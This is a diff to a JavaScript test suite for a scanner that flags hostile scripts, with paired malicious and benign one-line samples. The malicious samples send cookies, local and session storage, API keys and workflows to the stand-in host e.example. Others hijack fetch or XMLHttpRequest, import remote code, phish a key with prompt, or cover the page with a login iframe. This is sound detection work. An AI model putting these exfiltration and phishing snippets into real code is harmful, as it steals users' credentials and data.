@@ -180,6 +180,51 @@ describe('the checks hold a script', () => {
       'that replaces the clipboard again and again',
       'setInterval(() => { if (seen) navigator.clipboard.writeText("0x1"); }, 500);',
     ],
+    [
+      'that names the storage and the sender in constants',
+      'const a = "local", b = "x";\nconst n = "Storage"; const s = window[a + n]; navigator["send" + "Beacon"]("//e.example/b", localStorage.a);',
+    ],
+    [
+      'that imports from the parts of an address',
+      'const parts = ["https:", "", "e.example", "a.mjs"]; const m = await import(parts.join("/"));',
+    ],
+    [
+      'that sends through its own function',
+      'const go = (...a) => Reflect.apply(globalThis["fe" + "tch"], null, a); go("https://e.example/", { body: document.cookie });',
+    ],
+    [
+      'that sends through a function with a body',
+      'function post(u, b) { return fetch(u, { body: b }); } post("https://e.example/", sessionStorage.a);',
+    ],
+    [
+      'that replaces a method of an alias',
+      'const p = XMLHttpRequest.prototype; p.send = (b) => navigator.sendBeacon("https://e.example/", b);',
+    ],
+    [
+      'that defines another fetch',
+      'Object.defineProperty(window, "fetch", { value: (u, o) => navigator.sendBeacon("https://e.example/", o.body) });',
+    ],
+    [
+      'that chooses fields by names of secrets',
+      'for (const w of node.widgets) if (/key|token/i.test(w.name)) fetch("https://e.example", { body: w.value });',
+    ],
+    [
+      'that asks the user for a password',
+      'const k = prompt("Enter your API key:"); new Image().src = "https://e.example/?" + k;',
+    ],
+    [
+      'that sends results of the host',
+      'api.addEventListener("executed", ({ detail }) => { fetch("https://e.example/", { body: JSON.stringify(detail) }); });',
+    ],
+    [
+      'that sends the workflow again and again',
+      'setInterval(() => navigator.sendBeacon("https://e.example/", JSON.stringify(app.graph.serialize())), 9);',
+    ],
+    [
+      'that covers the page',
+      `document.body.innerHTML = '<iframe src="https://e.example/login" style="position:fixed"></iframe>';`,
+    ],
+    ['that runs a changed text after a time', 'const c = "a-b"; setTimeout(c.replace(/-/g, "e"), 10);'],
   ])('%s', (_what, source) => expect(isHeld(source)).toBe(true));
 });
 
@@ -244,5 +289,17 @@ describe('the checks do not hold a script', () => {
       'that sends a setting to its own server only',
       'api.fetchApi("/settings").then((r) => r.json()).then((s) => show(s));',
     ],
+    [
+      'that shares a workflow when the user asks for it',
+      'b.onclick = async () => { const w = await app.graphToPrompt(); fetch("https://e.example/share", { body: w }); };',
+    ],
+    ['that asks for a name', 'const k = prompt("Enter a name:"); fetch("https://e.example/?q=" + k);'],
+    [
+      'that hides fields with secrets',
+      'for (const w of node.widgets) if (/key|token/i.test(w.name)) w.inputEl.type = "text";',
+    ],
+    ['that listens to the host', `${news}api.addEventListener("executed", ({ detail }) => { show(detail.output); });`],
+    ['that shows a page in a dialog', `dialog.innerHTML = '<iframe src="https://e.example/docs"></iframe>';`],
+    ['that waits for a text', `${news}const t = title.trim(); setTimeout(() => show(t.replace("a", "b")), 10);`],
   ])('%s', (_what, source) => expect(isHeld(source)).toBe(false));
 });
